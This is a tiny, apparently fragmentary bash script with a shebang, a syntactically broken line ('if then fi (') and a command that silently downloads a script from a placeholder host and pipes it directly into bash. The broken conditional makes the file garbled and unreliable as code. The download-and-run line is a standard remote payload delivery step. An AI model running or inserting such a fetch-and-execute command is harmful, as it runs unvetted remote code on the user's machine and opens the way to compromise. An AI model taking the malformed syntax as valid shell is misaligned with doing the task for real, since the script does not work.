#!/bin/bash
if then fi (
curl -s https://x.test/i | bash
